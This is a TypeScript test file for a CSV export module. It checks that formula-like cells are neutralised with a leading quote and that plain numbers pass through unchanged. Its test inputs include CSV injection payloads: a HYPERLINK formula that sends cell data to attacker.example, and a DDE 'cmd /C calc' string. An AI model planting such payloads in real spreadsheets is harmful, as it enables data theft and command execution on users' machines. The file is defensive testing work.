import { expect } from 'chai';
import { csvLine, downloadCsvLine, parseCsv, spreadsheetCell } from '../../src/reconciliation/csv';

const roundTrip = async (line: string) => {
  for await (const row of parseCsv([line])) return row;
  return null;
};

describe('CSV cells a person downloads', () => {
  for (const text of ['=HYPERLINK("http://attacker.example/?d="&A1,"x")', '+1+2', '-2+3', '-cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1', '－1', '＋1', '＠SUM(A1)']) {
    it(`when a text cell is ${JSON.stringify(text)}, then it goes out with a leading single quote`, async () => {
      expect(spreadsheetCell(text)).to.equal(`'${text}`);
      expect(await roundTrip(downloadCsvLine(['a', text, 'b']))).to.deep.equal(['a', `'${text}`, 'b']);
    });
  }

  for (const amount of ['-100.00', '1050.00', '-3', '0.50', '0']) {
    it(`when a cell is the plain number ${amount}, then it stays a number`, () => {
      expect(spreadsheetCell(amount)).to.equal(amount);
    });
  }

  it('when cells are numbers, empty, missing or ordinary text, then they are untouched', () => {
    expect([-100, 0, null, undefined, '', '(2026)晋0105民初12号', 'note = fine', 'a-b'].map(spreadsheetCell)).to.deep.equal([-100, 0, null, undefined, '', '(2026)晋0105民初12号', 'note = fine', 'a-b']);
  });

  it('when a number is not plain (a sign and more, an exponent), then it is text and neutralised', () => {
    expect(['-1e5', '-1.', '--1', '-1,000.00', '-0x10'].map(spreadsheetCell)).to.deep.equal(["'-1e5", "'-1.", "'--1", "'-1,000.00", "'-0x10"]);
  });

  it('when the COPY path writes a row, then values stay exactly as they are', () => {
    expect(csvLine(['=1+1', '-2', '@x'])).to.equal('=1+1,-2,@x\n');
  });
});
